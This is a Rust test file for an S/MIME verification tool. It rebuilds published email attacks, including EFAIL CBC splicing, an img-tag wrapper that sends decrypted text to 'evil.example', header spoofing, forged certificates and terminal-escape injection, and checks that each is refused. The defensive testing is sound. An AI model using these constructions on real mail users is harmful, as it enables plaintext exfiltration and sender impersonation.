//! Attacks that have a name in the literature, each made as its authors describe it. None is delivered as the sender's.
//!
//! EFAIL: Poddebniak et al., USENIX Security 2018. Johnny: Müller et al., "Johnny, you are fired!", USENIX Security
//! 2019 (its classes C, CMS; M, MIME; I, identity). Relabelling: RFC 9709 §1. Surreptitious forwarding: Davis, USENIX
//! 2001. The attack of forged attributes has its tests in `attacks` and `smime_attacks`.
#![cfg(test)]

mod support;

use openssl::symm::Cipher;
use sealscope::agent::{Profile, ProfileName, Report, SignatureState, outcome_json};
use sealscope::asn1::{Tree, der, oid};
use sealscope::finding::Severity;
use sealscope::limits::Limits;
use sealscope::pki::issue::{Authority, CertificateBuilder, Criticality};
use sealscope::pki::{Certificate, PrivateKeyEntry};
use sealscope::smime::{EncryptionOptions, EnvelopedData, MakingCipher, decrypt, encrypt};
use sealscope::span::{Buffer, BufferName};
use support::command::content;
use support::handmade::{
    content_info, detached, enveloped_data, joined, multipart_signed, sealed, signed_data, wrapped,
};
use support::program::House;
use support::receiver::{Receiver, answer, signed};
use support::{ALICE, BOB, CAROL, Circle, NOT_AFTER, NOT_BEFORE, World, envelope, message, outcomes, verdict};

const MALLORY: &str = "mallory@m.example";

fn arrive(world: &World, from: &str, octets: &[u8]) -> Report {
    match world.incoming(&envelope(from, &[BOB], octets)) {
        Ok(accepted) => accepted.report,
        Err(report) => *report,
    }
}

fn warned(report: &Report, rule: &str) -> bool {
    report.findings().any(|finding| finding.rule.id == rule && finding.severity >= Severity::Warning)
}

/// The envelope inside its ContentInfo, as octets of its fields, and the places of vector and ciphertext in the whole.
fn vector_and_ciphertext(cms: &[u8]) -> [std::ops::Range<usize>; 2] {
    let tree = Tree::parse(cms, &Limits::DEFAULT);
    let envelope = tree.root().unwrap().child(1).unwrap().child(0).unwrap();
    let encrypted = envelope.child(2).unwrap();
    let vector = encrypted.child(1).unwrap().child(1).unwrap().content_range();
    [vector, encrypted.child(2).unwrap().content_range()]
}

// The first plaintext block is known ("Content-Type: mu…"); a chosen difference in the vector makes any other of it, and
// pairs of spliced blocks go on from there.
#[test]
fn spliced_cbc_blocks_open_to_other_text_and_are_never_delivered() {
    let receiver = Receiver::new();
    let alice = receiver.circle.address(ALICE);
    let entity = signed(&alice);
    let cms = enveloped_data(&entity, &[receiver.bob.certificate()], Cipher::aes_256_cbc());
    let [vector, ciphertext] = vector_and_ciphertext(&cms);
    let gadget = *b"Content-Type: t/";
    let mut spliced = cms.clone();
    for place in 0..16 {
        spliced[vector.start + place] ^= entity[place] ^ gadget[place];
    }
    let opened = |cms: &[u8]| {
        let data = EnvelopedData::read(&Buffer::new(BufferName::EncryptedCms, cms), &Limits::DEFAULT).unwrap();
        decrypt(&data, &[&receiver.bob]).unwrap()
    };
    let text = opened(&spliced);
    assert!(text.plaintext.octets().starts_with(&gadget), "the splice works");
    assert!(!text.authenticated, "nothing would have noticed");
    assert_eq!(verdict(&arrive(&receiver.world, ALICE, &sealed(ALICE, BOB, &spliced))), "unsigned");

    // The same block pair again in the middle of the signed part: the header stays, the signature does not hold.
    let mut repeated = cms;
    let middle = ciphertext.start + 16 * 20;
    let pair = repeated[ciphertext.start..ciphertext.start + 32].to_vec();
    repeated[middle..middle + 32].copy_from_slice(&pair);
    assert!(!opened(&repeated).authenticated);
    let report = arrive(&receiver.world, ALICE, &sealed(ALICE, BOB, &repeated));
    assert_ne!(verdict(&report), "accepted");
    assert!(report.signers.iter().all(|signer| !signer.is_good()), "{:?}", report.rejection);
}

#[test]
fn text_encrypted_with_a_tag_says_that_it_is_authenticated() {
    let receiver = Receiver::new();
    let options = EncryptionOptions { content: MakingCipher::Aes256Gcm, ..EncryptionOptions::default() };
    let entity = signed(&receiver.circle.address(ALICE));
    let cms = encrypt(&entity, &[receiver.bob.certificate().clone()], &options).unwrap();
    let data = EnvelopedData::read(&Buffer::new(BufferName::EncryptedCms, cms), &Limits::DEFAULT).unwrap();
    assert!(decrypt(&data, &[&receiver.bob]).unwrap().authenticated);
}

#[test]
fn html_around_an_encrypted_part_is_not_joined_with_it() {
    let receiver = Receiver::new();
    let cms =
        enveloped_data(&signed(&receiver.circle.address(ALICE)), &[receiver.bob.certificate()], Cipher::aes_256_cbc());
    let inner = String::from_utf8(sealed(ALICE, BOB, &cms)).unwrap();
    let encrypted = &inner[inner.find("Content-Type").unwrap()..];
    let mixed = format!(
        "From: {ALICE}\r\nTo: {BOB}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\
         Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--b\r\n{encrypted}\r\n--b\r\n\
         Content-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
    );
    let report = arrive(&receiver.world, ALICE, mixed.as_bytes());
    assert_eq!(verdict(&report), "not-encrypted");
    assert!(report.buffer(BufferName::Decrypted).is_none(), "nothing was decrypted");
}

// Counter mode under a type without a tag: what comes out of CBC is garbage that an attacker could ask about.
#[test]
fn gcm_text_relabelled_as_cbc_tells_no_more_than_any_other_failure() {
    let receiver = Receiver::new();
    let options = EncryptionOptions { content: MakingCipher::Aes256Gcm, ..EncryptionOptions::default() };
    let entity = signed(&receiver.circle.address(ALICE));
    let cms = encrypt(&entity, &[receiver.bob.certificate().clone()], &options).unwrap();
    let parts = signed_data(&cms);
    let tree = Tree::parse(&cms, &Limits::DEFAULT);
    let encrypted = tree.root().unwrap().child(1).unwrap().child(0).unwrap().child(2).unwrap();
    let text = encrypted.child(2).unwrap().content();
    let answers: Vec<(String, String)> = [0, 1, 2]
        .map(|try_| {
            let vector = der::value(4, &[try_; 16]);
            let algorithm = der::sequence(&[&der::oid("2.16.840.1.101.3.4.1.42").unwrap(), &vector]);
            let whole = &text[..text.len() / 16 * 16];
            let content = der::sequence(&[&der::oid(oid::DATA).unwrap(), &algorithm, &der::value(0x80, whole)]);
            let envelope = der::sequence(&[&der::value(2, &[0]), &parts[1], &content]);
            let cms = der::sequence(&[&der::oid(oid::ENVELOPED_DATA).unwrap(), &der::value(0xa0, &envelope)]);
            let report = arrive(&receiver.world, ALICE, &sealed(ALICE, BOB, &cms));
            assert!(report.buffer(BufferName::Decrypted).is_none());
            (answer(&report).to_owned(), verdict(&report).to_owned())
        })
        .into();
    assert!(answers.iter().all(|found| *found == answers[0]), "{answers:?}");
    assert_eq!(answers[0].0, "not-decryptable");
}

#[test]
fn of_many_signers_each_is_listed_and_the_bad_ones_are_not_helped_by_the_good_one() {
    let receiver = Receiver::new();
    let alice = receiver.circle.address(ALICE);
    let stranger = Circle::new("Stranger").address(ALICE);
    let content = wrapped(&message(ALICE, &[BOB]));
    let cms = joined(&detached(&content, &alice), &detached(b"Content-Type: text/plain\r\n\r\nelse", &stranger));
    let report = receiver.receive(&multipart_signed(&content, &cms));
    let states: Vec<bool> = report.signers.iter().map(|signer| signer.signature == SignatureState::Valid).collect();
    assert_eq!(states.iter().filter(|valid| **valid).count(), 1, "{states:?}");
    assert_eq!(report.signers.len(), 2);
    assert_eq!(verdict(&report), "accepted");

    let bad = joined(&detached(b"else", &alice), &detached(&content, &stranger));
    let report = receiver.receive(&multipart_signed(&content, &bad));
    assert_eq!(outcomes(&report), ["bob@b.example removed no-path-to-anchor"]);
}

#[test]
fn the_certificate_told_is_that_of_the_signer_and_not_another_in_the_message() {
    let receiver = Receiver::new();
    let mallory = Circle::new("Mallory").address(MALLORY);
    let alice = receiver.circle.address(ALICE);
    let chain: Vec<Certificate> =
        [alice.certificate(), receiver.circle.intermediate.certificate()].map(Clone::clone).into();
    let mallory = PrivateKeyEntry::new(mallory.certificate().clone(), chain, mallory.key().to_owned()).unwrap();
    let report = receiver.receive(&signed(&mallory));
    let told: Vec<_> = report.signers.iter().filter_map(|signer| signer.certificate.as_ref()).collect();
    assert_eq!(told, [mallory.certificate()]);
    assert_ne!(verdict(&report), "accepted");
}

#[test]
fn a_signed_message_that_was_forwarded_as_an_attachment_signs_nothing_around_it() {
    let receiver = Receiver::new();
    let inner = signed(&receiver.circle.address(ALICE));
    for kind in ["multipart/mixed", "multipart/related", "multipart/alternative"] {
        let mut entity = format!(
            "Content-Type: {kind}; boundary=outer\r\n\r\n--outer\r\nContent-Type: text/html\r\n\r\n\
             <p>Pay now.</p><style>.x{{display:none}}</style>\r\n--outer\r\nContent-Type: message/rfc822\r\n\r\n"
        )
        .into_bytes();
        entity.extend_from_slice(&inner);
        entity.extend_from_slice(b"\r\n--outer--\r\n");
        assert_eq!(verdict(&receiver.receive(&entity)), "unsigned", "{kind}");
    }
}

// The signer speaks for the envelope's sender and for nobody whose name the header draws.
#[test]
fn a_name_in_the_header_that_no_signature_speaks_for_is_told_or_refused() {
    let circle = Circle::new("Good");
    let mallory = circle.address(MALLORY);
    for (case, from) in [
        ("another From", format!("From: {ALICE}\r\n")),
        ("an address as a name", format!("From: \"{ALICE}\" <{MALLORY}>\r\n")),
        ("From twice", format!("From: {MALLORY}\r\nFrom: {ALICE}\r\n")),
        ("two authors", format!("From: {ALICE}, {MALLORY}\r\n")),
        ("another Sender", format!("From: {ALICE}\r\nSender: {MALLORY}\r\n")),
        ("a comment", format!("From: {MALLORY} ({ALICE})\r\n")),
        ("a NUL", format!("From: {ALICE}\0 <{MALLORY}>\r\n")),
    ] {
        let mut receiver = Receiver::new();
        receiver.world.trusts(BOB, &circle.root);
        let original =
            format!("{from}To: {BOB}\r\nDate: Mon, 1 Jun 2026 11:59:00 +0000\r\nSubject: x\r\n\r\nPay now.\r\n");
        let content = wrapped(original.as_bytes());
        let entity = multipart_signed(&content, &detached(&content, &mallory));
        let octets =
            sealed(MALLORY, BOB, &enveloped_data(&entity, &[receiver.bob.certificate()], Cipher::aes_256_cbc()));
        let report = arrive(&receiver.world, MALLORY, &octets);
        // What is bound is the envelope's sender: that is Mallory, with Mallory's certificate.
        assert_eq!(report.signers[0].certificate.as_ref(), Some(mallory.certificate()), "{case}");
        let named_alone = matches!(case, "an address as a name" | "a comment");
        let told = report.findings().any(|finding| finding.severity >= Severity::Warning);
        assert!(named_alone || told, "{case}: nothing is told");
        // As Alice's, it is refused whatever the header says.
        assert_eq!(verdict(&arrive(&receiver.world, ALICE, &octets)), "signer-not-bound", "{case}");
        receiver.world.profile = Profile::named(ProfileName::Direct13);
        if case == "another From" {
            assert_eq!(verdict(&arrive(&receiver.world, MALLORY, &octets)), "routing-mismatch", "{case}");
        }
    }
}

#[test]
fn a_name_that_ends_early_for_some_readers_binds_nothing() {
    let receiver = Receiver::new();
    let address = format!("{ALICE}\0.m.example");
    let names = der::sequence(&[&der::value(0x81, address.as_bytes())]);
    let builder = CertificateBuilder::end_entity("x", NOT_BEFORE, NOT_AFTER);
    let builder = builder.extension("2.5.29.17", Criticality::NonCritical, &names);
    let mallory = receiver.circle.intermediate.issue(&builder).unwrap();
    assert_eq!(verdict(&receiver.receive_from(&mallory)), "signer-not-bound");
}

// Alice wrote to Carol; Carol encrypts it for Bob, who is to think that Alice wrote to him.
#[test]
fn a_message_that_was_written_to_somebody_else_is_told_and_refused_where_the_profile_wants_it() {
    let mut receiver = Receiver::new();
    let content = wrapped(&message(ALICE, &[CAROL]));
    let entity = multipart_signed(&content, &detached(&content, &receiver.circle.address(ALICE)));
    let octets = sealed(ALICE, BOB, &enveloped_data(&entity, &[receiver.bob.certificate()], Cipher::aes_256_cbc()));
    let report = arrive(&receiver.world, ALICE, &octets);
    assert!(
        report.findings().any(|finding| finding.rule.id == "message.recipients-agree" && finding.detail.contains(BOB)),
        "the mismatch is told"
    );
    // The outer header says Bob where the signed one says Carol.
    assert!(warned(&report, "incoming.headers-agree"));
    receiver.world.profile = Profile::named(ProfileName::Direct13);
    assert_ne!(verdict(&arrive(&receiver.world, ALICE, &octets)), "accepted");
}

#[test]
fn a_certificate_with_the_names_and_the_serial_number_of_the_true_one_is_another() {
    let receiver = Receiver::new();
    let alice = receiver.circle.address(ALICE);
    let serial = alice.certificate().x509().serial_number().to_bn().unwrap().to_vec();
    // A rogue authority of the same names; its certificate has the issuer and the serial number of Alice's.
    let rogue = Circle::new("Good");
    let builder = CertificateBuilder::for_address(ALICE, NOT_BEFORE, NOT_AFTER).serial(&serial);
    let forged = rogue.intermediate.issue(&builder).unwrap();
    assert_eq!(forged.certificate().issuer(), alice.certificate().issuer());
    assert_eq!(forged.certificate().serial(), alice.certificate().serial());
    assert_ne!(verdict(&receiver.receive_from(&forged)), "accepted");

    // Both certificates in one message: the one whose key does not verify must not lend its path.
    let content = wrapped(&message(ALICE, &[BOB]));
    let cms = detached(&content, &forged);
    let mut parts = signed_data(&cms);
    let place = parts.iter().position(|part| part[0] == 0xa0).unwrap();
    for order in [[&alice, &forged], [&forged, &alice]] {
        let mut certificates: Vec<Vec<u8>> = order.map(|entry| entry.certificate().der().to_vec()).into();
        certificates.extend(alice.chain().iter().map(|certificate| certificate.der().to_vec()));
        parts[place] = support::der::constructed(0xa0, &certificates);
        let report = receiver.receive(&multipart_signed(&content, &content_info(&cms, &parts)));
        assert_ne!(verdict(&report), "accepted");
    }
}

#[test]
fn a_recipient_info_that_names_bobs_certificate_and_is_for_another_key_opens_nothing() {
    let receiver = Receiver::new();
    let serial = receiver.bob.certificate().x509().serial_number().to_bn().unwrap().to_vec();
    let builder = CertificateBuilder::for_address(BOB, NOT_BEFORE, NOT_AFTER).serial(&serial);
    let other: PrivateKeyEntry = Circle::new("Good").intermediate.issue(&builder).unwrap();
    let entity = signed(&receiver.circle.address(ALICE));
    let octets = sealed(ALICE, BOB, &enveloped_data(&entity, &[other.certificate()], Cipher::aes_256_cbc()));
    assert_eq!(answer(&arrive(&receiver.world, ALICE, &octets)), "not-decryptable");
}

#[test]
fn names_and_headers_that_would_steer_a_terminal_are_escaped_wherever_they_are_told() {
    let hostile = "Al\u{1b}]0;owned\u{7}ice\u{202e}moc.live";
    let circle = Circle::new("Good");
    let bob = circle.address(BOB);
    let builder = CertificateBuilder::for_address(ALICE, NOT_BEFORE, NOT_AFTER).organization(hostile);
    let authority: &Authority = &circle.intermediate;
    let alice = authority.issue(&builder).unwrap();
    let original = format!(
        "From: {ALICE}\r\nTo: {BOB}\r\nSubject: =?utf-8?Q?=1B[2J=E2=80=AE?= {hostile}\r\nDate: {hostile}\r\n\r\nx\r\n"
    );
    let content = wrapped(original.as_bytes());
    let entity = multipart_signed(&content, &detached(&content, &alice));
    let octets = sealed(ALICE, BOB, &enveloped_data(&entity, &[bob.certificate()], Cipher::aes_256_cbc()));
    let house = House::new();
    house.key(BOB, &bob).trusts(BOB, circle.root.certificate());
    house.put("message.eml", &octets);
    house.put("entity.eml", &entity);
    for arguments in [
        &["incoming", "message.eml", "--from", ALICE, "--to", BOB, "--verbose"][..],
        &["incoming", "message.eml", "--from", ALICE, "--to", BOB, "--json"],
        &["inspect", "entity.eml", "--verbose"],
        &["inspect", "entity.eml", "--json"],
    ] {
        let done = house.sealscope(arguments);
        assert_eq!(done.exit, 0, "{arguments:?}: {}", done.stderr);
        let all = format!("{}{}", done.text(), done.stderr);
        let steering = |found: char| (found.is_control() && found != '\n') || matches!(found, '\u{202a}'..='\u{202e}');
        assert!(!all.contains(steering), "{arguments:?}: {all:?}");
    }
    let mut world = World::default();
    world.key(BOB, &bob).trusts(BOB, &circle.root);
    let report = arrive(&world, ALICE, &octets);
    assert_eq!(verdict(&report), "accepted", "{:?}", report.rejection);
    assert!(!outcome_json(&report).to_string().contains('\u{1b}'));
}

// What comes with a message may complete a path; it is kept for nobody, and no key of a known address is replaced by it.
#[test]
fn a_certificate_that_comes_with_a_message_replaces_none_and_is_not_kept() {
    let circle = Circle::new("Good");
    let (bob, known) = (circle.address(BOB), circle.address(ALICE));
    let house = House::new();
    house.key(BOB, &bob).trusts(BOB, circle.root.certificate());
    house.certificate(ALICE, known.certificate());
    let stored = || content(&house.path("workspace").to_string_lossy());
    let before = stored();
    let another = circle.address(ALICE);
    let octets = sealed(ALICE, BOB, &enveloped_data(&signed(&another), &[bob.certificate()], Cipher::aes_256_cbc()));
    house.put("message.eml", &octets);
    let done = house.sealscope(&["incoming", "message.eml", "--from", ALICE, "--to", BOB, "--json"]);
    assert_eq!(done.exit, 0, "{}", done.stderr);
    assert!(done.text().contains(another.certificate().sha256()), "the certificate that signed is told");
    assert!(stored() == before, "something was kept");
}

// Counter, key and digest stay where they are; a text that looks like the program's own verdict is text.
#[test]
fn words_of_a_message_that_look_like_a_verdict_stand_in_no_line_of_the_answer() {
    let circle = Circle::new("Good");
    let bob = circle.address(BOB);
    let mallory = Circle::new("Mallory").address(ALICE);
    let house = House::new();
    house.key(BOB, &bob).trusts(BOB, circle.root.certificate());
    let drawn = "Accepted for bob@b.example";
    let original = format!(
        "From: {ALICE}\r\nTo: {BOB}\r\nSubject: \u{2714} Trusted {drawn}\r\nDate: Mon, 1 Jun 2026 11:59:00 +0000\r\n\r\n\
         {drawn}\r\n"
    );
    let content = wrapped(original.as_bytes());
    let entity = multipart_signed(&content, &detached(&content, &mallory));
    house
        .put("message.eml", &sealed(ALICE, BOB, &enveloped_data(&entity, &[bob.certificate()], Cipher::aes_256_cbc())));
    let done = house.sealscope(&["incoming", "message.eml", "--from", ALICE, "--to", BOB]);
    assert_eq!(done.exit, 3, "{}", done.stderr);
    assert!(!done.text().contains(drawn) && !done.text().contains('\u{2714}'), "{}", done.text());
}
